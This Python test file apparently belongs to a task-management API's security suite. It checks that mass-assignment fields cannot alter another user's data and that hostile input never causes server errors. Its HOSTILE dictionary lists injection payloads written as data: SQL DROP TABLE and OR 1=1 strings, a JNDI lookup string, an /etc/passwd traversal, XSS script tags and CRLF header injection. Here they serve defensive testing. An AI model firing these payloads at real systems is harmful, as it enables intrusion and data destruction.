    check(recent(row["created_at"]), "POST /tasks created_at")
    created_at = row["created_at"]

    writes: list[tuple[str, str, Any, str | None]] = [
        ("PATCH", f"{TASKS}/{tid}", {**x, "title": "mass 2"}, None),
        ("PUT", f"{TASKS}/{tid}", {**x, "title": "mass 3"}, None),
        ("POST", f"{TASKS}/{tid}/transition", {**x, "status": "in_progress"}, None),
        ("POST", f"{TASKS}/{tid}/tags", {**x, "tags": ["mass"]}, None),
        ("POST", f"{TASKS}/{tid}/assign", {**x, "assignee_id": w.carol.id}, None),
        ("PATCH", f"{TASKS}/bulk", {**x, "task_ids": [tid], "updates": {**x, "title": "m4"}}, None),
        ("POST", f"{TASKS}/bulk-status", {**x, "task_ids": [tid], "target_status": "done"}, None),
        ("POST", f"{TASKS}/{tid}/files", None, "upload"),
    ]
    version = 1
    for method, url, payload, kind in writes:
        if kind == "upload":
            # (the form takes at most 16 parts: the fields that matter for a file)
            form = {k: str(x[k]) for k in ("id", "task_id", "uploader_id", "size", "sha256")}
            response = await client.post(
                url, data=form, files={"file": TEXT_FILE}, headers=bob.headers
            )
            assert response.status_code == 201, response.text
            [file_row] = await rows_of(db_session, "attachments", "task_id = :i", i=tid)
            check(
                response.status_code == 201
                and file_row["uploader_id"] == bob.id
                and file_row["size"] == len(TEXT_FILE[1])
                and file_row["sha256"] != x["sha256"]
                and file_row["id"] != NO_SUCH_ID,
                "upload",
            )
        else:
            response = await client.request(method, url, json=payload, headers=bob.headers)
            check(response.status_code == 200, f"{method} {url}: {response.status_code}")
        version += 1
        sane(await task_row(tid), version=version, created_at=created_at, label=f"{method} {url}")

    # notifications: bob marks one of his own read, with fields naming alice's.
    await client.post(
        TASKS, json={"title": "to bob", "assignee_id": bob.id}, headers=w.carol.headers
    )
    [note] = (await client.get(f"{API}/notifications", headers=bob.headers)).json()["items"]
    read = await client.post(
        f"{API}/notifications/{note['id']}/read",
        json={**x, "id": w.notification_id, "read": False},
        headers=bob.headers,
    )
    check(
        read.status_code == 200 and read.json()["id"] == note["id"] and read.json()["read"], "read"
    )
    read_all = await client.post(f"{API}/notifications/read-all", json=x, headers=bob.headers)
    check(read_all.status_code == 204, "read-all")
    after = await victim_state(client, db_session, w, with_carol=False)
    assert after == victim_before, "alice's data changed"
    assert taken == []


# --- 4. hostile strings -------------------------------------------------------------------------

HOSTILE = {
    "sql": "x'); DROP TABLE tasks; --",
    "sql-or": '" OR 1=1 -- ',
    "like": "%_\\%",
    "nul": "a\x00b",
    "rtl": "invoice\u202egpj.exe",
    "format": "%s%s%n {0} {__class__} ${jndi:ldap://x/a}",
    "traversal": "../../../../etc/passwd",
    "html": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "crlf": "line\r\nX-Injected: 1",
    "unicode": "zero\u200bwidth \ufeff emoji \U0001f600 combining e\u0301",
    "huge": "A" * 100_000,
}
# Lone surrogates cannot be encoded by a client library; they are written as JSON escapes.
SURROGATES = ("\\ud800", "x\\udfffy")


async def test_hostile_strings_never_cause_a_5xx(
    client: httpx.AsyncClient, db_session: AsyncSession, world: World
):
    w = world
    bob = w.bob
    tid = w.bob_task["id"]
    failures: list[str] = []

    def record(
        label: str, response: httpx.Response, *, stored: Any = None, sent: Any = None
    ) -> None:
        COUNTS["hostile_tried"] += 1
        if response.status_code >= 500:
            COUNTS["hostile_5xx"] += 1
            failures.append(f"{label}: {response.status_code}")
        elif response.status_code >= 400 and not response.headers["content-type"].startswith(
            "application/problem+json"
        ):
            failures.append(f"{label}: {response.status_code} without problem+json")
        elif 200 <= response.status_code < 300 and sent is not None and stored != sent:
            failures.append(f"{label}: stored {stored!r:.80} for {sent!r:.80}")
        for name, value in response.headers.items():
            if "\r" in value or "\n" in value or name.lower() == "x-injected":
                failures.append(f"{label}: header injection in {name}")

    for label, value in HOSTILE.items():
        in_url = value[:20_000]  # httpx refuses URLs over 64 KiB; 20 KB still overflows every field
        r = await client.post(TASKS, json={"title": value}, headers=bob.headers)
        record(f"title {label}", r, stored=r.json().get("title"), sent=value.strip())
        if r.status_code == 201:
            got = (await client.get(f"{TASKS}/{r.json()['id']}", headers=bob.headers)).json()
            record(f"title {label} read back", r, stored=got["title"], sent=value.strip())
        r = await client.post(TASKS, json={"title": "d", "description": value}, headers=bob.headers)
        record(f"description {label}", r, stored=r.json().get("description"), sent=value)
        r = await client.post(TASKS, json={"title": "t", "tags": [value]}, headers=bob.headers)
        record(f"tags {label}", r, stored=r.json().get("tags"), sent=[value.strip().lower()])
        r = await client.post(f"{TASKS}/{tid}/tags", json=[value], headers=bob.headers)
        record(f"add tag {label}", r)
        r = await client.delete(f"{TASKS}/{tid}/tags/{quote(in_url, safe='')}", headers=bob.headers)
        record(f"remove tag {label}", r)
        r = await client.patch(f"{TASKS}/{tid}", json={"title": value}, headers=bob.headers)
        record(f"patch title {label}", r, stored=r.json().get("title"), sent=value.strip())
        r = await client.patch(f"{API}/users/me", json={"full_name": value}, headers=bob.headers)
        record(
            f"full_name {label}", r, stored=r.json().get("full_name"), sent=value.strip() or None
        )
        r = await client.patch(f"{API}/users/me", json={"email": value}, headers=bob.headers)
        record(f"email {label}", r)
        r = await client.post(
            f"{API}/auth/register",
            json={
                "username": value,
                "email": f"h{uuid.uuid4().hex[:8]}@example.com",
                "password": "p" * 10,
            },
        )
        record(f"username {label}", r)
        name = f"h{uuid.uuid4().hex[:8]}"
        r = await client.post(
            f"{API}/auth/register",
            json={"username": name, "email": value, "password": "p" * 10, "full_name": value},
        )
        record(f"register email/full_name {label}", r)
        r = await client.post(f"{API}/auth/login", json={"username": value, "password": value})
        record(f"login {label}", r)
        r = await client.post(f"{API}/auth/token", data={"username": value, "password": "x" * 9})
        record(f"token form {label}", r)
        r = await client.post(f"{API}/auth/refresh", json={"refresh_token": value})
        record(f"refresh {label}", r)
        r = await client.get(f"{API}/users", params={"search": in_url}, headers=bob.headers)
        record(f"user search {label}", r)
        for param in (
            "search",
            "sort",
            "cursor",
            "tags",
            "status",
            "assignee",
            "scope",
            "updated_since",
        ):
            r = await client.get(TASKS, params={param: in_url}, headers=bob.headers)
            record(f"list {param}={label}", r)
        r = await client.get(f"{API}/notifications", params={"unread": in_url}, headers=bob.headers)
        record(f"notifications unread={label}", r)
        r = await client.post(
            f"{TASKS}/{tid}/files",
            files={"file": (value, b"plain text\n", "text/plain")},
            headers=bob.headers,
        )
        if r.status_code == 201:
            name_out = r.json()["filename"]
            if (
                "/" in name_out
                or "\x00" in name_out
                or "\r" in name_out
                or len(name_out.encode()) > 255
            ):
                failures.append(f"filename {label}: stored unsafely as {name_out!r:.80}")
            download = await client.get(f"{API}/files/{r.json()['id']}", headers=bob.headers)
            record(f"download {label}", download)
        record(f"filename {label}", r)
        header_value = value.encode("utf-8", "surrogatepass")
        for header in ("X-Request-ID", "Idempotency-Key", "If-Match", "If-None-Match"):
            try:
                r = await client.post(
                    TASKS, json={"title": "hdr"}, headers={**bob.headers, header: header_value}
                )
            except (httpx.LocalProtocolError, ValueError):
                continue  # not even sendable: nothing reaches the server
            record(f"header {header} {label}", r)
            echoed = r.headers.get("x-request-id", "")
            if not re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._:\-]{0,127}", echoed):
                failures.append(f"X-Request-ID {label}: unsafe echo {echoed!r:.80}")

    for escaped in SURROGATES:
        raw_bodies = {
            "title": (TASKS, f'{{"title": "{escaped}"}}'),
            "description": (TASKS, f'{{"title": "t", "description": "{escaped}"}}'),
            "tags": (TASKS, f'{{"title": "t", "tags": ["{escaped}"]}}'),
            "full_name": (f"{API}/users/me", f'{{"full_name": "{escaped}"}}'),
            "login": (f"{API}/auth/login", f'{{"username": "{escaped}", "password": "x"}}'),
        }
        for label, (url, raw) in raw_bodies.items():
            method = "PATCH" if url.endswith("/me") else "POST"
            r = await client.request(
                method,
                url,
                content=raw,
                headers={**bob.headers, "Content-Type": "application/json"},
            )
            record(f"surrogate {label} {escaped}", r)
            if r.status_code < 400:
                failures.append(f"surrogate {label}: accepted {r.status_code}")

    # Every table is still there, and so is everyone's data.
    for table in TABLES:
        await db_session.execute(text(f"SELECT count(*) FROM {table}"))
    alice_view = await client.get(f"{TASKS}/{w.task['id']}", headers=w.alice.headers)
    assert alice_view.json()["title"] == w.task["title"]
    assert failures == []
